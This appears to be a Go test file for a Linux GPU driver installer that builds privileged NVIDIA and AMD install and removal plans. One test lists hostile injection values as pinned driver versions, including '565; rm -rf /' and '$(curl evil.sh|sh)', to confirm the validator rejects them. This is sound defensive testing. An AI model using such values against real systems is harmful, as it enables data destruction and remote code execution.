package installer

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ro-control/ro-control/internal/executor"
	"github.com/ro-control/ro-control/internal/executor/executortest"
	"github.com/ro-control/ro-control/internal/pkgmgr"
	"github.com/ro-control/ro-control/internal/probe"
)

var fixedTime = time.Date(2024, 10, 22, 10, 15, 0, 0, time.UTC)

type staticInfo probe.SystemInfo

func (s staticInfo) SystemInfo(context.Context) probe.SystemInfo { return probe.SystemInfo(s) }

type panicInfo struct{}

func (panicInfo) SystemInfo(context.Context) probe.SystemInfo { panic("probe exploded") }

func testInfo() staticInfo {
	return staticInfo{
		GPU:    probe.GPUInfo{Vendor: "NVIDIA", Model: "GA107M", DriverInUse: "nouveau"},
		OS:     probe.OSInfo{ID: "fedora", Name: "Fedora Linux 41"},
		Kernel: "6.11.4-301.fc41.x86_64",
		CPU:    "AMD Ryzen 7 7840U",
		RAM:    "16.0 GB",
	}
}

func newTestOrchestrator(t *testing.T, r executor.Runner, b pkgmgr.Backend) *Orchestrator {
	t.Helper()
	return New(r, b, testInfo(), WithTempDir(t.TempDir()), WithClock(func() time.Time { return fixedTime }))
}

// drain runs op while collecting every event it emits.
func drain(op func(chan<- Event) (Outcome, bool)) (Outcome, bool, []Event) {
	ch := make(chan Event, 4)
	var events []Event
	done := make(chan struct{})
	go func() {
		for ev := range ch {
			events = append(events, ev)
		}
		close(done)
	}()
	out, started := op(ch)
	close(ch)
	<-done
	return out, started, events
}

func states(events []Event) []State {
	var out []State
	for _, ev := range events {
		if ev.Kind == EventState {
			out = append(out, ev.State)
		}
	}
	return out
}

func stagedFiles(t *testing.T, dir string) []string {
	t.Helper()
	matches, err := filepath.Glob(filepath.Join(dir, "ro-control-blacklist-*"))
	if err != nil {
		t.Fatal(err)
	}
	return matches
}

func TestBuildInstallPlanOrder(t *testing.T) {
	dir := t.TempDir()
	o := New(executortest.New(), pkgmgr.NewDNFBackend(), testInfo(), WithTempDir(dir), WithClock(func() time.Time { return fixedTime }))

	plan, err := o.BuildInstallPlan(pkgmgr.Proprietary, "")
	if err != nil {
		t.Fatalf("BuildInstallPlan: %v", err)
	}
	defer plan.Close()

	staged := stagedFiles(t, dir)
	if len(staged) != 1 {
		t.Fatalf("staged files = %v", staged)
	}
	data, err := os.ReadFile(staged[0])
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != "blacklist nouveau\noptions nouveau modeset=0\n" {
		t.Fatalf("blacklist contents = %q", data)
	}

	want := []string{
		"[ -f /etc/X11/xorg.conf ] && cp /etc/X11/xorg.conf /etc/X11/xorg.conf.backup_20241022_101500 || true",
		"install -m 0644 '" + staged[0] + "' /etc/modprobe.d/blacklist-nouveau.conf",
		"dnf install -y kernel-devel kernel-headers gcc make",
		rpmFusionCommand(t),
		"dnf install -y akmod-nvidia xorg-x11-drv-nvidia-cuda nvidia-settings",
		"dracut --force",
	}
	if !slices.Equal(plan.Commands, want) {
		t.Fatalf("plan commands:\n%s\nwant:\n%s", strings.Join(plan.Commands, "\n"), strings.Join(want, "\n"))
	}
	for _, cmd := range plan.Commands {
		if strings.Contains(cmd, ">") {
			t.Fatalf("plan must not use shell redirection: %s", cmd)
		}
	}

	if err := plan.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if left := stagedFiles(t, dir); len(left) != 0 {
		t.Fatalf("staged files not removed: %v", left)
	}
}

func rpmFusionCommand(t *testing.T) string {
	t.Helper()
	cmds := pkgmgr.NewDNFBackend().RepositoryCommands()
	if len(cmds) != 1 {
		t.Fatalf("unexpected repository commands %v", cmds)
	}
	return cmds[0]
}

func TestBuildInstallPlanPinned(t *testing.T) {
	o := newTestOrchestrator(t, executortest.New(), pkgmgr.NewAPTBackend())
	plan, err := o.BuildInstallPlan(pkgmgr.OpenKernel, "550.120")
	if err != nil {
		t.Fatal(err)
	}
	defer plan.Close()
	if !slices.Contains(plan.Commands, "apt-get install -y nvidia-driver-550-open nvidia-settings") {
		t.Fatalf("pinned driver command missing: %v", plan.Commands)
	}
	if plan.Commands[len(plan.Commands)-1] != "update-initramfs -u" {
		t.Fatalf("last step = %q", plan.Commands[len(plan.Commands)-1])
	}
}

func TestBuildInstallPlanRejectsInvalidVersion(t *testing.T) {
	hostile := []string{
		"565; rm -rf /",
		"565 && reboot",
		"$(curl evil.sh|sh)",
		"565`id`",
		"565\nreboot",
		"565|true",
		"565'",
		"../565",
		"565.*",
		" 565",
	}
	for _, pinned := range hostile {
		dir := t.TempDir()
		o := New(executortest.New(), pkgmgr.NewDNFBackend(), testInfo(), WithTempDir(dir))
		plan, err := o.BuildInstallPlan(pkgmgr.Proprietary, pinned)
		if !errors.Is(err, ErrInvalidVersion) {
			t.Fatalf("%q: err = %v, want ErrInvalidVersion", pinned, err)
		}
		if plan != nil {
			t.Fatalf("%q: plan must not be built", pinned)
		}
		if left := stagedFiles(t, dir); len(left) != 0 {
			t.Fatalf("%q: files staged before validation: %v", pinned, left)
		}
	}
}

func TestPlansOnlyCarryValidatedVersions(t *testing.T) {
	for _, m := range pkgmgr.Managers() {
		b, err := pkgmgr.New(m)
		if err != nil {
			t.Fatal(err)
		}
		o := newTestOrchestrator(t, executortest.New(), b)
		for _, flavor := range []pkgmgr.Flavor{pkgmgr.Proprietary, pkgmgr.OpenKernel} {
			plan, err := o.BuildInstallPlan(flavor, "565.57.01")
			if err != nil {
				t.Fatalf("%s/%s: %v", m, flavor, err)
			}
			for _, cmd := range plan.Commands {
				for _, bad := range []string{";", "&&", "`", "$("} {
					if strings.Contains(cmd, bad) && !strings.Contains(cmd, "$(rpm -E %fedora)") && !strings.Contains(cmd, "$(uname -r)") && !strings.HasPrefix(cmd, "[ -f ") {
						t.Fatalf("%s/%s: unexpected shell syntax %q in %q", m, flavor, bad, cmd)
					}
				}
			}
			plan.Close()
		}
	}
}

func TestBuildPlansRequirePackageManager(t *testing.T) {
	o := newTestOrchestrator(t, executortest.New(), nil)
	if _, err := o.BuildInstallPlan(pkgmgr.Proprietary, ""); !errors.Is(err, ErrUnsupportedPackageManager) {
		t.Fatalf("install: err = %v", err)
	}
	if _, err := o.BuildRemovalPlan(true); !errors.Is(err, ErrUnsupportedPackageManager) {
		t.Fatalf("remove: err = %v", err)
	}
	if _, err := o.BuildAMDPlan(); !errors.Is(err, ErrUnsupportedPackageManager) {
		t.Fatalf("amd: err = %v", err)
	}
}

func TestBuildRemovalPlan(t *testing.T) {
	o := newTestOrchestrator(t, executortest.New(), pkgmgr.NewDNFBackend())

	plain, err := o.BuildRemovalPlan(false)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"[ -f /etc/X11/xorg.conf ] && cp /etc/X11/xorg.conf /etc/X11/xorg.conf.backup_20241022_101500 || true",
		"rm -f /etc/modprobe.d/blacklist-nouveau.conf",
		"dnf remove -y '*nvidia*' '*kmod-nvidia*' || true",
		"dracut --force",
	}
	if !slices.Equal(plain.Commands, want) {
		t.Fatalf("removal plan = %v", plain.Commands)
	}

	deep, err := o.BuildRemovalPlan(true)
	if err != nil {
		t.Fatal(err)
	}
	if len(deep.Commands) != len(want)+len(deepCleanPaths) {
		t.Fatalf("deep clean plan = %v", deep.Commands)
	}
	for _, path := range deepCleanPaths {
		if !slices.Contains(deep.Commands, "rm -f "+path) {
			t.Fatalf("deep clean misses %s", path)
		}
	}
	if deep.Commands[len(deep.Commands)-1] != "dracut --force" {
		t.Fatal("initramfs must be regenerated last")
	}
}

func TestInstallNVIDIASuccess(t *testing.T) {
	r := executortest.New().SetProgram("pkexec", executor.Result{ExitCode: 0, Stdout: "Installed:\n  akmod-nvidia\nComplete!"})
	dir := t.TempDir()
	o := New(r, pkgmgr.NewDNFBackend(), testInfo(), WithTempDir(dir), WithClock(func() time.Time { return fixedTime }))

	out, started, events := drain(func(ch chan<- Event) (Outcome, bool) {
		return o.InstallNVIDIA(context.Background(), pkgmgr.Proprietary, "565.57.01", ch)
	})
	if !started {
		t.Fatal("transaction did not start")
	}
	if !out.Success || out.Err != nil || out.ExitCode != 0 {
		t.Fatalf("outcome = %+v", out)
	}

	calls := r.CallsTo("pkexec")
	if len(calls) != 1 {
		t.Fatalf("pkexec calls = %d", len(calls))
	}
	args := calls[0].Args
	if args[0] != "ro-control-root-task" {
		t.Fatalf("helper task = %q", args[0])
	}
	if len(args) != 7 {
		t.Fatalf("each command must be its own argument, got %d args: %q", len(args), args)
	}
	for _, a := range args[1:] {
		if strings.Contains(a, " && ") && !strings.HasPrefix(a, "[ -f ") {
			t.Fatalf("commands must not be chained: %q", a)
		}
	}
	if !strings.Contains(args[5], "'akmod-nvidia-565.57.01*'") {
		t.Fatalf("driver step = %q", args[5])
	}

	wantStates := []State{Preparing, AwaitingPrivilege, Executing, Succeeded}
	if got := states(events); !slices.Equal(got, wantStates) {
		t.Fatalf("states = %v, want %v", got, wantStates)
	}
	last := events[len(events)-1]
	if last.Kind != EventDone || last.Outcome == nil || !last.Outcome.Success {
		t.Fatalf("last event = %+v", last)
	}

	transcript := strings.Join(out.Log, "\n")
	for _, want := range []string{
		"--- STARTING: NVIDIA Proprietary Installation ---",
		"Version pinned: 565.57.01",
		"[10:15:00] --- TRANSACTION STARTED: NVIDIA Proprietary Installation ---",
		"[SYSTEM DIAGNOSTIC REPORT]",
		"OS: Fedora Linux 41 | Kernel: 6.11.4-301.fc41.x86_64",
		"CPU: AMD Ryzen 7 7840U | RAM: 16.0 GB",
		"GPU: NVIDIA GA107M",
		"Driver In Use: nouveau",
		"[EXECUTION PLAN]",
		"1. [ -f /etc/X11/xorg.conf ]",
		"Waiting for authorization (root)...",
		"[Command Output]",
		"Complete!",
		"SUCCESS: NVIDIA Proprietary Installation completed.",
	} {
		if !strings.Contains(transcript, want) {
			t.Fatalf("transcript missing %q:\n%s", want, transcript)
		}
	}

	var logged []string
	for _, ev := range events {
		if ev.Kind == EventLog {
			logged = append(logged, ev.Line)
		}
	}
	if !slices.Equal(logged, out.Log) {
		t.Fatal("streamed lines and transcript differ")
	}
	if left := stagedFiles(t, dir); len(left) != 0 {
		t.Fatalf("staged files left behind: %v", left)
	}
	if o.Busy() {
		t.Fatal("flag must be released")
	}
}

func TestInstallFailureReportsStderr(t *testing.T) {
	r := executortest.New().SetProgram("pkexec", executor.Result{ExitCode: 1, Stderr: "Error: Unable to find a match: akmod-nvidia-999*"})
	o := newTestOrchestrator(t, r, pkgmgr.NewDNFBackend())

	out, _, events := drain(func(ch chan<- Event) (Outcome, bool) {
		return o.InstallNVIDIA(context.Background(), pkgmgr.Proprietary, "", ch)
	})
	if out.Success || out.ExitCode != 1 {
		t.Fatalf("outcome = %+v", out)
	}
	var execErr *ExecutionError
	if !errors.As(out.Err, &execErr) || execErr.ExitCode != 1 || execErr.Denied {
		t.Fatalf("err = %v", out.Err)
	}
	transcript := strings.Join(out.Log, "\n")
	for _, want := range []string{"[!!! CRITICAL ERROR !!!]", "Exit Code: 1", "Command Output (STDERR):", "Unable to find a match", "ERROR: The operation failed."} {
		if !strings.Contains(transcript, want) {
			t.Fatalf("transcript missing %q", want)
		}
	}
	if got := states(events); !slices.Equal(got, []State{Preparing, AwaitingPrivilege, Executing, Failed}) {
		t.Fatalf("states = %v", got)
	}
	if len(r.CallsTo("pkexec")) != 1 {
		t.Fatal("failed transactions must not be retried")
	}
}

func TestFailureWithoutStderr(t *testing.T) {
	r := executortest.New().SetProgram("pkexec", executor.Result{ExitCode: 2})
	o := newTestOrchestrator(t, r, pkgmgr.NewDNFBackend())
	out, _ := o.RemoveNVIDIA(context.Background(), false, nil)
	if !slices.Contains(out.Log, "(No error output received)") {
		t.Fatalf("placeholder missing:\n%s", strings.Join(out.Log, "\n"))
	}
}

func TestAuthorizationDenied(t *testing.T) {
	r := executortest.New().SetProgram("pkexec", executor.Result{ExitCode: 126, Stderr: "Not authorized"})
	o := newTestOrchestrator(t, r, pkgmgr.NewDNFBackend())
	out, _, events := drain(func(ch chan<- Event) (Outcome, bool) {
		return o.InstallAMD(context.Background(), ch)
	})
	var execErr *ExecutionError
	if !errors.As(out.Err, &execErr) || !execErr.Denied {
		t.Fatalf("err = %v", out.Err)
	}
	if got := states(events); !slices.Equal(got, []State{Preparing, AwaitingPrivilege, Failed}) {
		t.Fatalf("states = %v", got)
	}
}

func TestInvalidVersionNeverReachesHelper(t *testing.T) {
	r := executortest.New().SetProgram("pkexec", executor.Result{ExitCode: 0})
	o := newTestOrchestrator(t, r, pkgmgr.NewDNFBackend())
	out, started, events := drain(func(ch chan<- Event) (Outcome, bool) {
		return o.InstallNVIDIA(context.Background(), pkgmgr.Proprietary, "565; reboot", ch)
	})
	if !started || out.Success || !errors.Is(out.Err, ErrInvalidVersion) {
		t.Fatalf("started=%v outcome=%+v", started, out)
	}
	if len(r.Calls()) != 0 {
		t.Fatalf("no command may run, got %v", r.Calls())
	}
	for _, line := range out.Log {
		if strings.Contains(line, "reboot") {
			t.Fatalf("rejected version leaked into the log: %q", line)
		}
	}
	if got := states(events); !slices.Equal(got, []State{Preparing, Failed}) {
		t.Fatalf("states = %v", got)
	}
}

func TestUnsupportedPackageManager(t *testing.T) {
	r := executortest.New()
	o := newTestOrchestrator(t, r, nil)
	out, started := o.InstallNVIDIA(context.Background(), pkgmgr.OpenKernel, "", nil)
	if !started || !errors.Is(out.Err, ErrUnsupportedPackageManager) {
		t.Fatalf("outcome = %+v", out)
	}
	if !slices.Contains(out.Log, "ERROR: Unsupported package manager!") {
		t.Fatalf("log = %v", out.Log)
	}
	if len(r.Calls()) != 0 {
		t.Fatal("nothing may run without a package manager")
	}
}

func TestConcurrentRequestIsNoop(t *testing.T) {
	entered := make(chan struct{})
	release := make(chan struct{})
	r := executortest.New().SetProgram("pkexec", executor.Result{ExitCode: 0})
	r.OnRun = func(context.Context, executortest.Call) {
		close(entered)
		<-release
	}
	o := newTestOrchestrator(t, r, pkgmgr.NewDNFBackend())

	first := make(chan Outcome, 1)
	go func() {
		out, _ := o.InstallNVIDIA(context.Background(), pkgmgr.Proprietary, "", nil)
		first <- out
	}()
	<-entered

	if !o.Busy() {
		t.Fatal("Busy() must report the running transaction")
	}
	out, started := o.RemoveNVIDIA(context.Background(), true, nil)
	if started {
		t.Fatal("second transaction must not start")
	}
	if out.Success || out.Log != nil || out.Err != nil {
		t.Fatalf("busy request must return a zero outcome, got %+v", out)
	}

	close(release)
	if res := <-first; !res.Success {
		t.Fatalf("first transaction failed: %+v", res)
	}
	if o.Busy() {
		t.Fatal("flag must be released")
	}
	if n := len(r.CallsTo("pkexec")); n != 1 {
		t.Fatalf("pkexec ran %d times", n)
	}
}

func TestExecuteIgnoresCallerCancellation(t *testing.T) {
	var sawCancel bool
	r := executortest.New().SetProgram("pkexec", executor.Result{ExitCode: 0})
	r.OnRun = func(ctx context.Context, _ executortest.Call) {
		sawCancel = ctx.Err() != nil
	}
	o := newTestOrchestrator(t, r, pkgmgr.NewPacmanBackend())

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	out, started := o.InstallNVIDIA(ctx, pkgmgr.Proprietary, "", nil)
	if !started || !out.Success {
		t.Fatalf("outcome = %+v", out)
	}
	if sawCancel {
		t.Fatal("privileged run must not see caller cancellation")
	}
}

func TestExecutePrebuiltPlan(t *testing.T) {
	r := executortest.New().SetProgram("pkexec", executor.Result{ExitCode: 0})
	o := newTestOrchestrator(t, r, pkgmgr.NewZypperBackend())
	plan, err := o.BuildAMDPlan()
	if err != nil {
		t.Fatal(err)
	}
	out, started := o.Execute(context.Background(), plan, nil)
	if !started || !out.Success {
		t.Fatalf("outcome = %+v", out)
	}
	calls := r.CallsTo("pkexec")
	if len(calls) != 1 || !slices.Equal(calls[0].Args[1:], plan.Commands) {
		t.Fatalf("calls = %v", calls)
	}
}

func TestExecuteRejectsNilPlan(t *testing.T) {
	r := executortest.New().SetProgram("pkexec", executor.Result{ExitCode: 0})
	o := newTestOrchestrator(t, r, pkgmgr.NewDNFBackend())

	out, started, events := drain(func(ch chan<- Event) (Outcome, bool) {
		return o.Execute(context.Background(), nil, ch)
	})
	if !started {
		t.Fatal("a nil plan should still report the attempt")
	}
	if out.Success || !errors.Is(out.Err, errEmptyPlan) {
		t.Fatalf("outcome = %+v", out)
	}
	if got := states(events); !slices.Equal(got, []State{Preparing, Failed}) {
		t.Fatalf("states = %v", got)
	}
	if len(r.CallsTo("pkexec")) != 0 {
		t.Fatal("nothing should be handed to the helper")
	}
	if o.Busy() {
		t.Fatal("flag must be released")
	}
}

// gatedRunner streams one line and then blocks until released.
type gatedRunner struct {
	*executortest.Runner
	release chan struct{}
}

func (g gatedRunner) RunStreaming(ctx context.Context, onLine func(string), name string, args ...string) (executor.Result, error) {
	onLine("Installing akmod-nvidia")
	<-g.release
	return executor.Result{ExitCode: 0, Stdout: "Installing akmod-nvidia"}, nil
}

func TestExecutingReportedWhileHelperRuns(t *testing.T) {
	g := gatedRunner{Runner: executortest.New(), release: make(chan struct{})}
	o := newTestOrchestrator(t, g, pkgmgr.NewDNFBackend())

	ch := make(chan Event, 64)
	result := make(chan Outcome, 1)
	go func() {
		out, _ := o.InstallNVIDIA(context.Background(), pkgmgr.Proprietary, "", ch)
		result <- out
	}()

	timeout := time.After(5 * time.Second)
	for executing := false; !executing; {
		select {
		case ev := <-ch:
			executing = ev.Kind == EventState && ev.State == Executing
			if ev.Kind == EventDone {
				t.Fatal("transaction finished before Executing was reported")
			}
		case <-timeout:
			t.Fatal("Executing not reported while the helper was running")
		}
	}
	if !o.Busy() {
		t.Fatal("transaction should still be in flight")
	}
	close(g.release)

	var rest []Event
	for ev := range ch {
		rest = append(rest, ev)
		if ev.Kind == EventDone {
			break
		}
	}
	out := <-result
	if !out.Success {
		t.Fatalf("outcome = %+v", out)
	}
	if got := states(rest); !slices.Equal(got, []State{Succeeded}) {
		t.Fatalf("states after release = %v", got)
	}
	if n := strings.Count(strings.Join(out.Log, "\n"), "Installing akmod-nvidia"); n != 1 {
		t.Fatalf("helper output logged %d times", n)
	}
}

func TestPanicReleasesFlag(t *testing.T) {
	r := executortest.New().SetProgram("pkexec", executor.Result{ExitCode: 0})
	o := New(r, pkgmgr.NewDNFBackend(), panicInfo{}, WithTempDir(t.TempDir()))

	func() {
		defer func() {
			if recover() == nil {
				t.Fatal("expected panic")
			}
		}()
		o.InstallNVIDIA(context.Background(), pkgmgr.Proprietary, "", nil)
	}()

	if o.Busy() {
		t.Fatal("flag left set after panic")
	}
	o.sysinfo = testInfo()
	if _, started := o.RemoveNVIDIA(context.Background(), false, nil); !started {
		t.Fatal("a new transaction must be accepted after a panic")
	}
}

func TestPacmanPinNotice(t *testing.T) {
	r := executortest.New().SetProgram("pkexec", executor.Result{ExitCode: 0})
	o := newTestOrchestrator(t, r, pkgmgr.NewPacmanBackend())
	out, _ := o.InstallNVIDIA(context.Background(), pkgmgr.Proprietary, "550", nil)
	if !slices.Contains(out.Log, "pacman cannot pin versions; installing the current repository build.") {
		t.Fatalf("log = %v", out.Log)
	}
}

func TestShellQuote(t *testing.T) {
	if got := shellQuote("/tmp/a b"); got != "'/tmp/a b'" {
		t.Fatalf("got %s", got)
	}
	if got := shellQuote("/tmp/it's"); got != `'/tmp/it'\''s'` {
		t.Fatalf("got %s", got)
	}
}
